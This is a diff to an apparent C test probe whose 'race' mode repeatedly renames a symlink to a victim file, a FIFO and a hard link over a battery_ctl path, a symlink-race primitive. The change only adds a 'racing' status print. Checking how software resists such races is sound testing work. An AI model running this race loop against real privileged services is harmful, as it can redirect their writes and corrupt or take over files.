@@ -4,7 +4,8 @@
  *                                 renamed-over symlink and a new file at each PATH; try user and mount
  *                                 namespaces and /proc/1/{root,cwd}. One line per try: OP PATH ok|ERRNO
  *   probe race VICTIM DIR STOP    until STOP exists, rename a symlink to VICTIM, a FIFO and a hard-linked
- *                                 file over DIR/battery_ctl, over and over; prints "raced N" */
+ *                                 file over DIR/battery_ctl, over and over; prints "racing",
+ *                                 then "raced N" */
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
@@ -24,6 +25,8 @@ int main(int argc, char **argv) {
     snprintf(lnk, sizeof lnk, "%s/.l", argv[3]); snprintf(fifo, sizeof fifo, "%s/.f", argv[3]);
     snprintf(hard, sizeof hard, "%s/.h", argv[3]); snprintf(ctl, sizeof ctl, "%s/battery_ctl", argv[3]);
     long n = 0;
+    printf("racing\n");
+    fflush(stdout);
     while (access(argv[4], F_OK) != 0) {
       symlink(victim, lnk); rename(lnk, ctl);
       mkfifo(fifo, 0666); rename(fifo, ctl);
